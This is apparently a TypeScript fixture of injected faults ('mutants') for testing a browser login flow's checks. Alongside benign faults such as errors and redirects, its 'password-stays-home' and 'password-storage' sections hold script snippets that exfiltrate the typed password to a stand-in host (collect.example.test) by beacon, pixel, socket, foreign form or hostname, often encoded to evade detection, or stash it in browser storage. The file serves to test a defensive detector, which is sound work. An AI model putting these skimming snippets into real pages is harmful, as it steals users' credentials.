/** Mutants and variations of the rows on the login's journey in a browser. */
import {
  addSetCookie,
  all,
  answerWith,
  configured,
  delay,
  dropHeader,
  editRequest,
  fromNth,
  inEnvironment,
  named,
  onlyNth,
  redirect,
  replaceInBody,
  reset,
  setBody,
  setField,
  setHeader,
  setStatus,
  variables,
  when,
  type Fault,
  type Proof,
} from '../../fixtures/proof/faults/faults.ts';

const login = { to: 'login', method: 'POST' } as const;
const loginPage = { to: 'login page', method: 'GET' } as const;
const dashboardPage = { to: 'dashboard page', method: 'GET' } as const;
const dashboardData = { path: /\/api\/v1\/(dashboard|me)$/, method: 'GET' } as const;
/** From its nth look on, the dashboard learns late that nobody is signed in; until then it shows its frame. */
const learnsLate = (nth: number): Fault =>
  all(
    variables({ DASHBOARD_SELECTOR: 'main' }),
    fromNth(
      nth,
      when(
        { path: /\/api\/v1\/dashboard$/, method: 'GET' },
        all(delay(400), answerWith({ status: 401, body: '{"detail":"no session"}' })),
      ),
    ),
  );
const emptyLogin = JSON.stringify({ email: '', password: '' });
const script = { path: /\/assets\/app\.[^/]{1,100}\.js$/ } as const;

/** The page at `path` renews the session, and the API refuses. */
const renewsAt = (path: string): Fault =>
  all(
    when(
      script,
      replaceInBody(
        /^/,
        `if (location.pathname === '/${path}') void fetch('/api/v1/auth/refresh', { method: 'POST', headers: {} });\n`,
      ),
    ),
    when({ path: /\/auth\/refresh$/ }, answerWith({ status: 401, body: '{"detail":"no session"}' })),
  );

/** A library of the page calls a function of the console that returns something. */
const asksForTask = when(
  script,
  replaceInBody(/^/, "(console.createTask ? console.createTask('head') : { run: f => f() }).run(() => undefined);\n"),
);

/** Script that logs the message of Next's hot reload when its socket does not open. */
const hotReload = 'console.error("WebSocket connection to \'ws://localhost:3000/_next/webpack-hmr\' failed");\n';

/** A view transition of the page's own style is rejected, as by Chromium, and nothing waits for it. */
const rejects = (message: string) =>
  when(script, replaceInBody(/^/, `void Promise.reject(new Error("${message}"));\n`));

/** Code in the login's script that has the typed text as `secret`, on pages whose policy allows every host. */
const withSecret = (code: string, onLoad = '') =>
  all(
    when(loginPage, dropHeader('Content-Security-Policy')),
    when(dashboardPage, dropHeader('Content-Security-Policy')),
    when(
      script,
      all(
        replaceInBody(/^/, `${onLoad}\n`),
        replaceInBody(
          "const answer = await call('/auth/login'",
          `{ const secret = password.value; ${code}; } const answer = await call('/auth/login'`,
        ),
      ),
    ),
  );
const FOREIGN = 'https://collect.example.test';
/** The login's script reports `what` (an expression) to a foreign host, which the page's policy allows. */
const reporting = (what: string) => withSecret(`navigator.sendBeacon('${FOREIGN}/seen', ${what})`);
/** It asks for an image whose address ends with `what`. */
const pixel = (what: string) => withSecret(`new Image().src = '${FOREIGN}/pixel?' + ${what}`);
const hexadecimal = "[...secret].map(c => c.charCodeAt(0).toString(16)).join('')";
/** Waits until `event` of `it`, or its error. */
const until = (it: string, event: string) => `await new Promise(go => { ${it}.on${event} = ${it}.onerror = go; })`;

/** The form is invisible until the page's script shows it. */
const formByScript = all(
  when(loginPage, replaceInBody('<main class="card">', '<main class="card" hidden>')),
  when(script, replaceInBody('const login = ', "document.querySelector('main').hidden = false;\nconst login = ")),
);
/** Forms with an account's field and a button of the same names, before that of the login; one makes an account. */
const otherForms = when(
  loginPage,
  replaceInBody(
    '<main class="card">',
    '<form action="/login" method="post"><label>Email <input type="email" name="email"></label><button type="submit">Continue</button></form>' +
      '<form action="/login" method="post"><label>Search user <input type="text" name="q"></label><button type="submit">Continue</button></form>' +
      '<form action="/login" method="post"><label>Email <input type="email" name="new"></label><label>Password <input type="password" name="one"></label><label>Password again <input type="password" name="two"></label><button type="submit">Continue</button></form>' +
      '<main class="card">',
  ),
);
/** A wrapper of fetch that fails on foreign calls: it reads `init.headers`, which only its own client always sets. */
const wrappedFetch = when(
  script,
  all(
    replaceInBody(
      /^/,
      'const sent = window.fetch; window.fetch = (url, init) => sent(url, { ...init, headers: { ...init.headers, "x-request-id": init.headers.id ?? "from-the-web" } });\n',
    ),
    replaceInBody("cache: 'no-store', ...init }", "cache: 'no-store', headers: {}, ...init }"),
  ),
);
const THEME = 'theme-2026-dark';
/** Data and pages for everybody name a setting, as does an answer to the login page's own call. */
const settingOfEverybody = all(
  when(dashboardData, setField('theme', THEME)),
  when(dashboardPage, replaceInBody('<main', `<main data-theme="${THEME}"`)),
  when(script, replaceInBody('const login = ', "if (location.pathname === '/login') call('/theme');\nconst login = ")),
  when(
    { path: /\/api\/v1\/theme$/ },
    all(setStatus(200), setBody(JSON.stringify({ theme: THEME }), 'application/json')),
  ),
);
/** The login refuses a request without a further field besides the account. */
const needsTenant: Fault = {
  name: 'needs a tenant',
  request: r =>
    /"tenant":"acme"/.test(r.body.toString())
      ? undefined
      : answerWith({ status: 422, body: { detail: 'tenant is missing' } }).request?.(r),
};
const tenant = all(
  variables({ LOGIN_EXTRA: 'tenant=acme' }),
  when(script, replaceInBody('password: password.value })', "password: password.value, tenant: 'acme' })")),
  when({ ...login, scheme: 'https' }, needsTenant),
);
/** The API answers calls with a header of its own client, and treats others as a visitor's. */
const needsHeader = all(variables({ API_HEADERS: 'x-client=web' }), configured({ 'AUTH.client_header': 'x-client' }));
/** Stage's dashboard as its server renders it, with the given texts of an account; its script calls no API. */
const renderedFor = (account: string, name: string): Fault =>
  all(
    when(
      dashboardPage,
      replaceInBody(
        '<span id="name"></span> <span id="account"></span>',
        `<span id="name">${name}</span> <span id="account">${account}</span>`,
      ),
    ),
    when(
      script,
      replaceInBody(
        "const answers = await Promise.all([call('/me'), call('/dashboard')]);",
        "document.getElementById('loading').hidden = true; return; const answers = [];",
      ),
    ),
  );
const isSignedIn = (value: (name: string) => string | undefined): boolean =>
  /access_token=/.test(value('cookie') ?? '');
const visitorsGoToLogin = when(
  { ...dashboardPage, scheme: 'https', header: value => !isSignedIn(value) },
  all(redirect('/login'), setHeader('Strict-Transport-Security', 'max-age=31536000')),
);
/** Visitors are redirected, and the redirect's body repeats its address, with a word of the session's data. */
const redirectRepeats = all(
  when(dashboardData, setField('needs', 'settings:read')),
  when(
    { ...dashboardPage, scheme: 'https', header: value => !isSignedIn(value) },
    all(
      setStatus(302),
      setHeader('Location', '/login?needs=settings:read'),
      setBody('<a href="/login?needs=settings:read">Sign in</a>', 'text/html'),
    ),
  ),
);
/** The guard redirects to the login without a way back, which the login reads from another parameter. */
const guardNamesNoWayBack = (parameter: string) =>
  when(
    script,
    all(
      replaceInBody("get('returnTo')", `get('${parameter}')`),
      replaceInBody(/location\.replace\(`\/login\?returnTo=[^`]{1,100}`\)/, "location.replace('/login')"),
    ),
  );
const rendered = all(renderedFor('smoke1@stage.test', 'Smoke 1'), visitorsGoToLogin);
export default {
  mutants: {
    'login-dashboard': [
      // The login is answered 200, but the cookie is missing from later calls.
      when(login, addSetCookie('access_token=; Path=/; Max-Age=0; Secure; HttpOnly; SameSite=Lax')),
      // The guard sends everybody back to the login.
      when(dashboardPage, redirect('/login')),
      // Only a skeleton.
      when(script, replaceInBody(/\.textContent = String\(/g, '.title = String(')),
      // The script of the page is broken: its form never wakes up.
      when(script, replaceInBody('const login = ', 'const const login = ')),
      when(loginPage, setStatus(500)),
      // The login is on a foreign host: nothing is typed there.
      when(loginPage, redirect('https://elsewhere.example.test/login')),
      when(dashboardData, setStatus(500)),
      named(
        'the page forgets the field that LOGIN_EXTRA names',
        all(tenant, when(script, replaceInBody("tenant: 'acme'", ''))),
      ),
      named(
        'rendered by its server for nobody, where DASHBOARD_SELECTOR names the account',
        all(variables({ DASHBOARD_SELECTOR: 'text=smoke1@stage.test' }), renderedFor('', ''), visitorsGoToLogin),
      ),
      named(
        "rendered by its server with another user's data, where DASHBOARD_SELECTOR names the account",
        all(
          variables({ DASHBOARD_SELECTOR: 'text=smoke1@stage.test' }),
          renderedFor('smoke2@stage.test', 'Smoke 2'),
          visitorsGoToLogin,
        ),
      ),
      named(
        'rendered by its server, which fails',
        all(
          rendered,
          when(
            { ...dashboardPage, header: isSignedIn },
            all(
              setStatus(500),
              setBody('<!doctype html><title>Error</title><h1>Internal Server Error</h1>', 'text/html'),
            ),
          ),
        ),
      ),
      named('the page forgets the header that API_HEADERS names', needsHeader),
      named(
        "another user's data out of a cache",
        when({ to: 'me', status: 200 }, setField('email', 'somebody.else@example.test')),
      ),
      // The cookie is not sent, or its answer not shown, across hosts: only where web and API are two.
      inEnvironment('prod', when({ to: 'api' }, dropHeader('Access-Control-Allow-Credentials'))),
    ],
    'auth-guard': [
      configured({ 'WEB.dashboard_leaks': true }),
      // The session is lost on a reload, and in a new tab.
      fromNth(2, when(dashboardPage, redirect('/login'))),
      fromNth(3, when(dashboardPage, redirect('/login'))),
      named('a reload loses the session, which the frame of the dashboard does not show', learnsLate(2)),
      named('a new tab has no session, which the frame of the dashboard does not show', learnsLate(3)),
      named('rendered by its server for everybody', renderedFor('smoke1@stage.test', 'Smoke 1')),
      // A visitor stays on an empty dashboard.
      when(
        { ...dashboardPage, header: value => !value('cookie') },
        setBody('<!doctype html><title>Dashboard</title><h1>Dashboard</h1>', 'text/html'),
      ),
    ],
    'login-return-path': [
      configured({ 'WEB.return_to': 'anywhere' }),
      inEnvironment('prod', configured({ 'WEB.return_to': 'anywhere' })),
      named(
        'anywhere, by a parameter that the guard does not name',
        all(guardNamesNoWayBack('redirectTo'), configured({ 'WEB.return_to': 'anywhere' })),
      ),
    ],
    'login-refusal': [
      configured({ 'AUTH.check_password': false }),
      when({ ...login, status: 401 }, addSetCookie('access_token=leftover; Path=/; Secure; HttpOnly; SameSite=Lax')),
      // The page swallows the refusal.
      when(script, replaceInBody("problem.hidden = text === ''", 'problem.hidden = true')),
      when(script, replaceInBody('say(refusal(answer))', "say('')")),
      when(script, replaceInBody("password.value = '';", 'form.hidden = true;')),
      // Regardless of the API's answer, the page goes on to the dashboard, which sends the user back without a word.
      when(script, replaceInBody('if (answer.ok) return location.assign', 'if (answer.status) return location.assign')),
      // An empty password signs in: the page sends it, the API accepts it.
      all(
        when(script, replaceInBody('if (empty) {', 'if (false) {')),
        when(
          { ...login, header: value => value('content-length') === String(emptyLogin.length) },
          answerWith({ status: 200, body: { access_token: 'none' } }),
        ),
      ),
    ],
    logout: [
      named(
        'the access stays, where the server renders the dashboard',
        all(rendered, configured({ 'COOKIE.logout_path': '/api', 'AUTH.revoke_on_logout': false })),
      ),
    ],
    // Left out: a double submit that burns two attempts. It puts no password into an address, and needs a row of its
    // own.
    'login-before-hydration': [
      when(
        loginPage,
        all(
          replaceInBody('method="post"', 'method="get"'),
          replaceInBody('<button type="submit" disabled>', '<button type="submit">'),
        ),
      ),
      when(
        loginPage,
        all(
          replaceInBody('<form id="login" method="post" action="/login"', '<form id="login"'),
          replaceInBody('<button type="submit" disabled>', '<button type="submit">'),
        ),
      ),
    ],
    'page-errors': [
      // A chunk of the old build, an error thrown by the page, a sub-resource over http.
      when({ path: /\/assets\/app\.[^/]{1,100}\.css$/ }, setStatus(404)),
      when(script, replaceInBody(/^/, 'setTimeout(() => { throw new Error("hydration failed"); });\n')),
      when({ path: /\/assets\/app\.[^/]{1,100}\.css$/ }, reset()),
      when(
        script,
        replaceInBody(/^/, 'console.error("Hydration failed because the server rendered HTML did not match");\n'),
      ),
      named(
        'a view transition that takes too long',
        rejects('Transition was aborted because of timeout in DOM update'),
      ),
      // The page's own policy refuses a script of it.
      when(loginPage, replaceInBody('</main>', '<script>document.title = "inline"</script></main>')),
      // A development server on a deployed page: its hot reload finds no peer.
      when(script, replaceInBody(/^/, hotReload)),
      when(dashboardPage, replaceInBody('</main>', '<img src="http://images.example.test/logo.png" alt=""></main>')),
      named('a renewal is refused to somebody signed in', renewsAt('dashboard')),
    ],
    'password-stays-home': [
      // The password is sent in an address.
      when(
        script,
        replaceInBody("call('/auth/login'", "call('/auth/login?password=' + encodeURIComponent(password.value)"),
      ),
      // A session recorder reports typed text to its own host.
      reporting("'typed=' + btoa(password.value)"),
      named(
        'a queue in localStorage, sent at the next visit',
        withSecret(
          "localStorage.setItem('queue', btoa(secret))",
          `{ const queue = localStorage.getItem('queue'); if (queue) new Image().src = '${FOREIGN}/queue?' + queue; }`,
        ),
      ),
      named(
        'a call that outlives its page and reads no answer',
        withSecret(`fetch('${FOREIGN}/pixel?' + secret, { mode: 'no-cors', keepalive: true }).catch(() => undefined)`),
      ),
      named('an image', pixel('secret')),
      named('percent-encoded', pixel("[...secret].map(c => '%' + c.charCodeAt(0).toString(16)).join('')")),
      named('in hexadecimal', pixel(hexadecimal)),
      named('in upper case', pixel('encodeURIComponent(secret.toUpperCase())')),
      named('backwards', reporting("[...secret].reverse().join('')")),
      named('backwards in base64', pixel("btoa([...secret].reverse().join(''))")),
      named('letter by letter', pixel("[...secret].join('.')")),
      named('as numbers', reporting("[...secret].map(c => c.charCodeAt(0)).join('-')")),
      named(
        'in two halves',
        withSecret(
          `new Image().src = '${FOREIGN}/a?' + secret.slice(0, secret.length / 2); new Image().src = '${FOREIGN}/b?' + secret.slice(secret.length / 2)`,
        ),
      ),
      named(
        'as the name of a host',
        withSecret(
          `new Image().src = 'https://' + ${hexadecimal}.match(/.{1,60}/g).join('.') + '.collect.example.test/'`,
        ),
      ),
      named(
        'on a socket',
        withSecret(
          `const socket = new WebSocket('${FOREIGN.replace('https', 'wss')}/socket'); ${until('socket', 'open')}; socket.send(secret)`,
        ),
      ),
      named(
        'a form with a foreign action',
        withSecret(
          `const out = document.createElement('form'); out.method = 'post'; out.action = '${FOREIGN}/form'; out.target = 'out'; out.innerHTML = '<input name="p"><iframe name="out"></iframe>'; out.p.value = secret; document.body.append(out); out.submit(); await new Promise(go => setTimeout(go, 100))`,
        ),
      ),
    ],
    'password-storage': [
      named('localStorage', withSecret("localStorage.setItem('form', JSON.stringify({ password: secret }))")),
      named('sessionStorage, in base64', withSecret("sessionStorage.setItem('replay', btoa(secret))")),
      named(
        'a cookie that scripts read',
        withSecret("document.cookie = 'draft=' + encodeURIComponent(secret) + '; path=/'"),
      ),
      named(
        'IndexedDB',
        withSecret(
          `const opening = indexedDB.open('queue', 1); opening.onupgradeneeded = () => opening.result.createObjectStore('events', { autoIncrement: true }); ${until('opening', 'success')}; const change = opening.result.transaction('events', 'readwrite'); change.objectStore('events').add({ typed: secret }); ${until('change', 'complete')}; opening.result.close()`,
        ),
      ),
      named(
        'until the login is over',
        withSecret(
          '',
          "addEventListener('input', e => { if (e.target.type === 'password') sessionStorage.setItem('typed', e.target.value); }, true); if (/dashboard/.test(location.pathname)) sessionStorage.clear();",
        ),
      ),
    ],
  },
  // The same faults, seen by other rows in a whole run (`npm run prove -- --full`).
  also: {
    'login-dashboard': [
      'auth-cookie-present',
      'bearer-login',
      'bearer-refusal',
      'cookie-in-browser',
      'cookie-not-on-http',
      'cors-credentials',
      'cors-in-browser',
      'cors-native-client',
      'cors-on-errors',
      'cors-preflight',
      'hsts',
      'https-redirect',
      'jwt-algorithm',
      'jwt-clock',
      'login-limit-hygiene',
      'logout',
      'page-errors',
      'readyz-recovery',
      'redirect-origin',
    ],
    'auth-guard': ['hsts', 'logout', 'private-pages-uncached'],
    'page-errors': ['assets-load', 'mixed-content'],
  },
  variations: [
    inEnvironment('stage', named('a page finds out by a refused renewal that nobody is signed in', renewsAt('login'))),
    inEnvironment('local', named('a page asks the console for a task, as unhead does', asksForTask)),
    inEnvironment('stage', named('the form exists with its script alone', formByScript)),
    inEnvironment(
      'local',
      named('DASHBOARD_SELECTOR names the frame of every page', variables({ DASHBOARD_SELECTOR: 'main' })),
    ),
    inEnvironment('local', named('data name a setting that everybody gets', settingOfEverybody)),
    inEnvironment('prod', named('a redirect repeats in its body where it leads', redirectRepeats)),
    inEnvironment('stage', named('the login wants the field that LOGIN_EXTRA names', tenant)),
    inEnvironment(
      'stage',
      named(
        'a picture lies on a foreign host that gives no answer',
        when(
          loginPage,
          all(
            dropHeader('Content-Security-Policy'),
            replaceInBody('</main>', '<img src="https://images.elsewhere.test/logo.png" alt=""></main>'),
          ),
        ),
      ),
    ),
    inEnvironment(
      'stage',
      named(
        'the server renders the dashboard, and DASHBOARD_SELECTOR names what it shows',
        all(variables({ DASHBOARD_SELECTOR: 'text=Smoke 1' }), renderedFor('account 1', 'Smoke 1'), visitorsGoToLogin),
      ),
    ),
    named('forms for a newsletter, a search and a new account stand before the login', otherForms),
    named('the web wraps what its pages fetch', wrappedFetch),
    inEnvironment(
      'local',
      named(
        'a page with a view transition is left at once',
        rejects('Transition was aborted because of invalid state. ViewTransition opt-in disabled'),
      ),
    ),
    inEnvironment('local', named('the guard names no way back', guardNamesNoWayBack('redirectTo'))),
    inEnvironment('stage', named('the login reads no way back', guardNamesNoWayBack('none'))),
    // Analytics on a foreign host that get no typed text.
    reporting("'page=login'"),
    named(
      'analytics of its own, and what a form may keep',
      withSecret(
        "new Image().src = '/favicon.ico?seen=login'; localStorage.setItem('form', JSON.stringify({ remember: true }))",
      ),
    ),
    named(
      'a call of the page repeats once the password is typed',
      withSecret(
        `navigator.sendBeacon('${FOREIGN}/seen', 'page=login')`,
        `navigator.sendBeacon('${FOREIGN}/seen', 'page=login');`,
      ),
    ),
    // A dashboard reached by a redirect of the login's own answer, or by a client-side push without a load, needs
    // another web app than the reference's.
    when(loginPage, replaceInBody('</main>', '<a href="http://www.example.test/">About</a></main>')),
    named(
      'a form that posts by itself before its script runs',
      when(loginPage, replaceInBody('<button type="submit" disabled>', '<button type="submit">')),
    ),
    named('a slow first compile', when(dashboardPage, onlyNth(1, delay(600)))),
    named('a skeleton flashes', when({ to: 'api', path: /\/dashboard$/, method: 'GET' }, delay(200))),
    named(
      'the guard shows the login in place',
      when(
        { ...dashboardPage, header: value => !value('cookie') },
        editRequest(r => {
          r.forward.path = r.site.paths['login page'];
        }),
      ),
    ),
    named(
      'a refusal in general words',
      when(script, replaceInBody("'Email or password is wrong.'", "'Signing in did not work.'")),
    ),
    inEnvironment('local', named('hot reload in local development', when(script, replaceInBody(/^/, hotReload)))),
    named(
      'a prefetch is given up',
      when(
        script,
        replaceInBody(
          /^/,
          'const given = new AbortController(); fetch("/login", { signal: given.signal }).catch(() => undefined); given.abort();\n',
        ),
      ),
    ),
    // A headless browser requests no icon by itself.
    named(
      'the favicon is missing',
      all(
        when({ path: '/favicon.ico' }, answerWith({ status: 404 })),
        when(loginPage, replaceInBody('</main>', '<img src="/favicon.ico" alt="" hidden></main>')),
      ),
    ),
    when(dashboardData, setField('unknown_extra_field', 'ignored')),
    when(loginPage, setHeader('X-Powered-By', 'another server')),
  ],
} satisfies Proof;
